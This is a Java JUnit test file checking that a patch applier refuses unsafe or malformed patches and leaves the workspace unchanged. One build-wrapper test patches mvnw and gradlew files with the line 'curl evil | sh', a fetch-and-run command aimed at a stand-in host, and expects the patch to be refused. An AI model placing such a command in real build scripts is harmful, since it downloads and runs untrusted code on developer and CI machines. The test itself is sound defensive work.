package dev.repofix.patch;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Patches that must not apply, and leave the workspace exactly as it was. */
class PatchApplierRefusalTest {
    private final PatchApplier applier = new PatchApplier();

    @TempDir
    Path root;

    private TestTree tree;

    @BeforeEach
    void setUp() {
        tree = new TestTree(root);
    }

    static Stream<Arguments> refusals() {
        String twice = "a\nif (x) {\n    y();\n}\nb\nif (x) {\n    y();\n}\nc\n";
        return Stream.of(
                refusal("overlapping hunks", "f.txt", TestTree.numberedLines(20), "--- a/f.txt\n+++ b/f.txt\n"
                        + "@@ -9,3 +9,3 @@\n line 9\n-line 10\n+ten\n line 11\n@@ -10,3 +10,3 @@\n ten\n-line 11\n+eleven\n line 12\n",
                        "hunk 2 of f.txt: overlapping hunks: it applies to lines 10-12, which hunk 1 already changed; merge them"),
                refusal("a hunk twice in the file, as far from its line", "Twice.java", twice,
                        "--- a/Twice.java\n+++ b/Twice.java\n@@ -4,3 +4,3 @@\n if (x) {\n-    y();\n+    z();\n }\n",
                        "hunk 1 of Twice.java: its 3 lines match at lines 2 and 6; add context to make it unique"),
                refusal("an edit block twice in the file", "t.txt", "x = 1\ny = 2\nx = 1\n",
                        "t.txt\n<<<<<<< SEARCH\nx = 1\n=======\nx = 3\n>>>>>>> REPLACE\n",
                        "hunk 1 of t.txt: its line matches at lines 1 and 3; add context to make it unique"),
                refusal("a line in seven places, the first five named", "t.txt", "x = 1\ny = 2\n".repeat(7),
                        "t.txt\n<<<<<<< SEARCH\nx = 1\n=======\nx = 3\n>>>>>>> REPLACE\n",
                        "hunk 1 of t.txt: its line matches at lines 1, 3, 5, 7, 9 and 2 more; add context to make it unique"),
                refusal("an addition that says not where", "t.txt", "x = 1\n",
                        "t.txt\n<<<<<<< SEARCH\n=======\nx = 3\n>>>>>>> REPLACE\n",
                        "hunk 1 of t.txt: it only adds lines and says neither where"),
                refusal("an insertion past the end", "t.txt", "x = 1\n", "--- a/t.txt\n+++ b/t.txt\n@@ -7,0 +8 @@\n+x\n",
                        "hunk 1 of t.txt: it inserts after line 7, but the file has 1 lines"),
                refusal("git binary patch", "logo.png", "PNG", "diff --git a/logo.png b/logo.png\nGIT binary patch\nliteral 3\nabc\n",
                        "binary patches are not supported"),
                refusal("binary files differ", "logo.png", "PNG",
                        "diff --git a/logo.png b/logo.png\nBinary files a/logo.png and b/logo.png differ\n", "binary patches are not supported"),
                refusal("rename", "A.java", "class A {}\n",
                        "diff --git a/A.java b/B.java\nsimilarity index 100%\nrename from A.java\nrename to B.java\n",
                        "renames are not supported yet"),
                refusal("creating a file that exists", "New.java", "class Old {}\n",
                        "--- /dev/null\n+++ b/New.java\n@@ -0,0 +1 @@\n+class New {}\n",
                        "New.java already exists, but the patch creates it (--- /dev/null)"),
                refusal("deleting more than the patch shows", "keep.txt", "x\ny\nz\n",
                        "--- a/keep.txt\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-x\n-y\n",
                        "keep.txt: the patch deletes the file, but its lines are not the whole file (1 other lines)"));
    }

    private static Arguments refusal(String name, String file, String content, String patch, String reason) {
        return Arguments.of(Named.of(name, file), content, patch, reason);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusals")
    void refusesAndLeavesTheWorkspaceAsItWas(String file, String content, String patch, String reason) throws IOException {
        tree.write(file, content);

        ApplyResult result = applier.apply(root, patch);

        assertThat(result).isInstanceOfSatisfying(ApplyResult.NotApplied.class, n -> assertThat(n.reason()).startsWith(reason));
        assertThat(tree.list()).containsExactly(file);
        assertThat(tree.read(file)).isEqualTo(content);
    }

    @Test
    @Timeout(10)
    void refusesAFiftyMegabytePatchQuickly() {
        String huge = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n" + "+y\n".repeat(50 * 1024 * 1024 / 3);

        ApplyResult result = applier.apply(root, huge);

        assertThat(result).isInstanceOfSatisfying(ApplyResult.NotApplied.class,
                n -> assertThat(n.reason()).startsWith("patch is too large: 52,428,").contains("the limit is 5,242,880 bytes"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"mvnw", "mvnw.cmd", "gradlew", "gradlew.bat", ".mvn/wrapper/maven-wrapper.properties",
        "gradle/wrapper/gradle-wrapper.properties", "module/mvnw", "MVNW"})
    void refusesToEditABuildWrapper(String path) throws IOException {
        tree.write(path, "exec java -jar wrapper.jar\n");

        ApplyResult result = applier.apply(root, UnifiedDiffs.create(path, "exec java -jar wrapper.jar\n", "curl evil | sh\n"));

        assertThat(result).isInstanceOfSatisfying(ApplyResult.NotApplied.class, n -> assertThat(n.reason())
                .startsWith("build wrapper or extension may not be patched: " + path + " ("));
        assertThat(tree.read(path)).isEqualTo("exec java -jar wrapper.jar\n");
    }

    @Test
    void refusesToDeleteAFileThatDoesNotExist() {
        ApplyResult result = applier.apply(root, "diff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n");

        assertThat(result).isEqualTo(new ApplyResult.NotApplied("no such file in the workspace: gone.txt (the patch deletes it)"));
    }

    @Test
    void refusesAnEmptyPatch() {
        assertThat(applier.apply(root, new Patch(List.of()))).isEqualTo(new ApplyResult.NotApplied("the patch changes no file"));
    }
}
